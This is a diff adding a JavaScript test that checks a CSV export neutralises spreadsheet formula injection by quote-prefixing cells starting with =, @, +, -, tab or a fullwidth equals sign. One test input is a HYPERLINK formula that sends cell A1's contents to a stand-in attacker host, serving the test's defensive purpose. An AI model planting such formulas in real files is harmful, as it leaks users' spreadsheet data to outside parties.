@@ -157,3 +157,20 @@ describe('a file on the playground', () => {
     expect({ rows, empty }).toEqual({ rows: 3, empty: 1 });
   });
 });
+
+describe('a table that is made of plain lines', () => {
+  it('holds no formula for spreadsheet programs', async () => {
+    const lines = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1)', '+1-1', '-2', '\t=1', '＝1', 'a=b', '5 - 3'];
+    const { csv } = await detect(lines.join('\n'), { kind: 'lines' });
+    expect((await csv.text()).split('\n').slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1)",de,0.9`,
+      "'@SUM(1),de,0.9",
+      "'+1-1,de,0.9",
+      "'-2,de,0.9",
+      `"'\t=1",de,0.9`,
+      "'＝1,de,0.9",
+      'a=b,de,0.9',
+      '5 - 3,de,0.9',
+    ]);
+  });
+});
